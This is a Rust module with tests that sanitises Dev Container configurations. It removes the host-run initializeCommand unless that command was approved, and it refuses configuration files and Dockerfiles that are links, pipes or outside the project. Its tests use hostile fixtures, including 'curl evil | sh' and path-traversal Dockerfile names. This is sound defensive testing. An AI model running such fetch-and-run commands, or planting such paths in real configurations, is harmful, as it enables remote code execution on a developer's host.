//! The configuration that the Dev Containers CLI gets: a frozen copy, without commands for the host unless a person
//! approved exactly these.
//!
//! What is mounted and what Docker is asked for is not judged here but by the launch gate, as it reaches Docker.

use std::fs::File;
use std::io::Read as _;
use std::path::{Component, Path, PathBuf};

use jsonc_parser::{ParseOptions, parse_to_serde_value};
use rustix::fs::{Mode, OFlags, ResolveFlags};
use serde_json::Value;

use crate::failure::Failure;
use crate::project::{Project, configurations};

/// More than any configuration has, in bytes.
const LARGEST: u64 = 1 << 20;

/// The one key that runs on the host.
const HOST_COMMAND: &str = "initializeCommand";

/// A configuration as it was read once.
#[derive(Debug, Clone)]
pub struct Configuration {
    /// Its file in the project, which relative paths in it are taken from.
    pub path: PathBuf,
    content: Value,
}

impl Configuration {
    /// Reads the configuration of a project. No link below the project is followed.
    pub fn read(project: &Project) -> Result<Self, Failure> {
        let mut found = configurations(&project.path);
        if found.len() > 1 {
            return Err(Failure::new(format!(
                "{} has several configurations in folders of .devcontainer",
                project.name
            ))
            .hint("leave one of them, or put the one to use at .devcontainer/devcontainer.json"));
        }
        let path =
            found.pop().ok_or_else(|| Failure::new(format!("{} has no configuration", project.name)))?;
        let text = read_below(&project.path, &path).map_err(|error| {
            Failure::at("read", &path, &error)
                .hint("it has to be a file of the project, reached through no link")
        })?;
        let content =
            parse(&text).map_err(|problem| Failure::new(format!("{}: {problem}", path.display())))?;
        let configuration = Self { path, content };
        configuration.dockerfile_is_inside(project)?;
        Ok(configuration)
    }

    /// The CLI reads the Dockerfile by itself, to write one of its own that begins with it: the launch gate sees that one
    /// only, and not where the content came from.
    fn dockerfile_is_inside(&self, project: &Project) -> Result<(), Failure> {
        let named = [
            self.content.get("dockerFile"),
            self.content.get("build").and_then(|build| build.get("dockerfile")),
        ];
        let folder = self.path.parent().unwrap_or(&project.path);
        for name in named.into_iter().flatten().flat_map(texts) {
            // As the CLI does it.
            let written = name
                .replace("${localWorkspaceFolder}", &project.path.to_string_lossy())
                .replace("${localWorkspaceFolderBasename}", &project.name);
            // One that is not there is the tooling's to complain about.
            let place = std::fs::canonicalize(folder.join(&written));
            let is_inside = place.as_ref().map_or(true, |place| place.starts_with(&project.path));
            if !is_inside || written.contains("${") {
                let place = place.map_or(written, |place| place.to_string_lossy().into_owned());
                return Err(Failure::new(format!(
                    "{}: its Dockerfile is not known to be in the project: {}",
                    project.name,
                    remo_present::shown::escaped(&place)
                ))
                .hint("put it into the project, and name it in build.dockerfile by its path there"));
            }
        }
        Ok(())
    }

    /// The command that would run on the host, as text, with the digest that an approval is tied to.
    pub fn host_command(&self) -> Option<(String, String)> {
        let command = self.content.get(HOST_COMMAND).filter(|command| !is_nothing(command))?;
        let text = command.to_string();
        let digest = remo_gate::approvals::digest(&text);
        Some((text, digest))
    }

    /// The image that it names, if that is one without variables.
    pub fn image(&self) -> Option<&str> {
        let image = self.content.get("image")?.as_str()?;
        (!image.is_empty() && !image.starts_with('-') && !image.contains('$')).then_some(image)
    }

    /// The digest of everything that the container is made of and that lies in the project: the configuration, and the
    /// Dockerfile or the Compose files that it names. What these name in turn is not in it.
    pub fn digest(&self, project: &Project) -> String {
        let mut all = self.content.to_string();
        let named = [
            self.content.get("dockerFile"),
            self.content.get("dockerComposeFile"),
            self.content.get("build").and_then(|build| build.get("dockerfile")),
        ];
        let folder = self.path.parent().unwrap_or(&project.path);
        for name in named.into_iter().flatten().flat_map(texts) {
            // One that cannot be read here is the tooling's to complain about.
            let text = plain(&folder.join(name)).and_then(|path| read_below(&project.path, &path).ok());
            all.push('\0');
            all.push_str(&text.unwrap_or_default());
        }
        remo_gate::approvals::digest(&all)
    }

    /// The copy that is handed over. Without the command for the host unless `host_command_is_approved`.
    pub fn frozen(&self, host_command_is_approved: bool) -> String {
        let mut content = self.content.clone();
        if let Some(members) = content.as_object_mut()
            && !host_command_is_approved
        {
            members.remove(HOST_COMMAND);
        }
        content.to_string()
    }
}

/// A text, or several in a list.
fn texts(value: &Value) -> Vec<&str> {
    match value {
        Value::String(text) => vec![text],
        Value::Array(items) => items.iter().filter_map(Value::as_str).collect(),
        _ => Vec::new(),
    }
}

/// The path with its `..` taken by its letters, which is the same where no link is followed.
fn plain(path: &Path) -> Option<PathBuf> {
    let mut plain = PathBuf::new();
    for part in path.components() {
        match part {
            Component::ParentDir => {
                plain.pop().then_some(())?;
            }
            Component::CurDir => {}
            part => plain.push(part),
        }
    }
    Some(plain)
}

fn is_nothing(command: &Value) -> bool {
    match command {
        Value::Null => true,
        Value::String(text) => text.trim().is_empty(),
        Value::Array(words) => words.is_empty(),
        Value::Object(commands) => commands.is_empty(),
        Value::Bool(_) | Value::Number(_) => false,
    }
}

fn parse(text: &str) -> Result<Value, String> {
    let options = ParseOptions::default();
    let content: Option<Value> = parse_to_serde_value(text, &options).map_err(|error| error.to_string())?;
    content.filter(Value::is_object).ok_or_else(|| "is no JSON object".to_owned())
}

fn read_below(folder: &Path, path: &Path) -> std::io::Result<String> {
    let relative = path.strip_prefix(folder).map_err(std::io::Error::other)?;
    let directory = File::open(folder)?;
    let opened = rustix::fs::openat2(
        &directory,
        relative,
        // Without waiting for a writer, should it be a pipe.
        OFlags::RDONLY | OFlags::CLOEXEC | OFlags::NONBLOCK,
        Mode::empty(),
        ResolveFlags::BENEATH | ResolveFlags::NO_SYMLINKS | ResolveFlags::NO_MAGICLINKS,
    )?;
    let file = File::from(opened);
    if !file.metadata()?.is_file() {
        return Err(std::io::Error::other("it is no regular file"));
    }
    let mut text = String::new();
    file.take(LARGEST + 1).read_to_string(&mut text)?;
    if text.len() as u64 > LARGEST {
        return Err(std::io::Error::other("it is over 1 MiB"));
    }
    Ok(text)
}

#[cfg(test)]
mod tests {
    use std::fs;
    use std::os::unix::fs::symlink;

    use super::*;

    fn project(folder: &Path) -> Project {
        Project { name: "a".to_owned(), path: folder.to_owned(), vended: None }
    }

    #[test]
    fn no_command_for_the_host_is_handed_over_unless_it_was_approved() {
        let place = tempfile::tempdir().unwrap();
        for (text, expected) in [
            (
                r#"{ "image": "x", /* c */ "initializeCommand": "curl evil | sh", }"#,
                Some("\"curl evil | sh\""),
            ),
            (r#"{"initializeCommand": ["sh", "-c", "x"]}"#, Some("[\"sh\",\"-c\",\"x\"]")),
            (r#"{"initializeCommand": {"a": "x"}}"#, Some("{\"a\":\"x\"}")),
            ("{\"\\u0069nitializeCommand\": \"x\"}", Some("\"x\"")),
            (r#"{"initializeCommand": 7}"#, Some("7")),
            (r#"{"initializeCommand": "  "}"#, None),
            (r#"{"postCreateCommand": "x"}"#, None),
        ] {
            fs::write(place.path().join(".devcontainer.json"), text).unwrap();
            let configuration = Configuration::read(&project(place.path())).unwrap();
            assert_eq!(configuration.host_command().map(|it| it.0).as_deref(), expected, "{text}");
            let kept = serde_json::from_str::<Value>(&configuration.frozen(false)).unwrap();
            assert_eq!(kept.get(HOST_COMMAND), None, "{text}");
            if expected.is_some() {
                let kept = serde_json::from_str::<Value>(&configuration.frozen(true)).unwrap();
                assert!(kept.get(HOST_COMMAND).is_some(), "{text}");
            }
        }
    }

    #[test]
    fn a_changed_dockerfile_or_compose_file_is_a_changed_configuration() {
        let place = tempfile::tempdir().unwrap();
        let write = |name: &str, text: &str| {
            fs::create_dir_all(place.path().join(".devcontainer")).unwrap();
            fs::write(place.path().join(name), text).unwrap();
        };
        let digest = || Configuration::read(&project(place.path())).unwrap().digest(&project(place.path()));
        write("Dockerfile", "FROM a");
        write("one.yml", "a");
        for text in [
            r#"{"build": {"dockerfile": "../Dockerfile"}}"#,
            r#"{"dockerFile": "../Dockerfile"}"#,
            r#"{"dockerComposeFile": "../one.yml"}"#,
            r#"{"dockerComposeFile": ["../Dockerfile", "../one.yml"]}"#,
        ] {
            write(".devcontainer/devcontainer.json", text);
            let before = digest();
            assert_eq!(digest(), before);
            write("Dockerfile", "FROM b");
            write("one.yml", "b");
            assert_ne!(digest(), before, "{text}");
            write("Dockerfile", "FROM a");
            write("one.yml", "a");
            assert_eq!(digest(), before);
        }
    }

    #[test]
    fn a_dockerfile_outside_of_the_project_is_refused_however_it_is_named() {
        let place = tempfile::tempdir().unwrap();
        let folder = fs::canonicalize(place.path()).unwrap().join("a");
        fs::create_dir_all(folder.join(".devcontainer")).unwrap();
        fs::write(place.path().join("Dockerfile"), "FROM x").unwrap();
        fs::write(folder.join("Dockerfile"), "FROM x").unwrap();
        symlink(place.path().join("Dockerfile"), folder.join("linked")).unwrap();
        symlink("Dockerfile", folder.join("within")).unwrap();
        let read = |key: &str, name: &str| {
            let text = match key {
                "build" => format!(r#"{{"build": {{"dockerfile": "{name}"}}}}"#),
                key => format!(r#"{{"{key}": "{name}"}}"#),
            };
            fs::write(folder.join(".devcontainer/devcontainer.json"), text).unwrap();
            Configuration::read(&project(&folder))
        };
        let outside = place.path().join("Dockerfile").display().to_string();
        for key in ["build", "dockerFile"] {
            for bad in [
                "../../Dockerfile",
                "../linked",
                "${localWorkspaceFolder}/../Dockerfile",
                "${localEnv:HOME}/Dockerfile",
                &outside,
            ] {
                assert!(read(key, bad).is_err(), "{key} {bad}");
            }
            for good in ["../Dockerfile", "../within", "${localWorkspaceFolder}/Dockerfile", "missing"] {
                assert!(read(key, good).is_ok(), "{key} {good}");
            }
        }
    }

    #[test]
    fn two_of_the_same_key_are_not_read_in_two_ways() {
        let place = tempfile::tempdir().unwrap();
        let text = r#"{"initializeCommand": "evil", "image": "x", "initializeCommand": ""}"#;
        fs::write(place.path().join(".devcontainer.json"), text).unwrap();
        let read = Configuration::read(&project(place.path()));
        // Refused, or one of the two: what is handed over has none of them.
        assert!(read.is_err() || !read.unwrap().frozen(false).contains(HOST_COMMAND));
    }

    #[test]
    fn a_configuration_that_is_a_link_a_pipe_or_huge_is_not_read() {
        let place = tempfile::tempdir().unwrap();
        let other = tempfile::tempdir().unwrap();
        fs::write(other.path().join("devcontainer.json"), "{}").unwrap();
        symlink(other.path(), place.path().join(".devcontainer")).unwrap();
        assert!(Configuration::read(&project(place.path())).is_err(), "a folder that is a link");
        fs::remove_file(place.path().join(".devcontainer")).unwrap();
        let file = place.path().join(".devcontainer.json");
        symlink(other.path().join("devcontainer.json"), &file).unwrap();
        assert!(Configuration::read(&project(place.path())).is_err(), "a file that is a link");
        fs::remove_file(&file).unwrap();
        rustix::fs::mknodat(rustix::fs::CWD, &file, rustix::fs::FileType::Fifo, Mode::RUSR, 0).unwrap();
        assert!(Configuration::read(&project(place.path())).is_err(), "a pipe");
        fs::remove_file(&file).unwrap();
        fs::write(&file, format!("{{\"a\":\"{}\"}}", "x".repeat(1 << 20))).unwrap();
        assert!(Configuration::read(&project(place.path())).is_err(), "a huge file");
    }
}
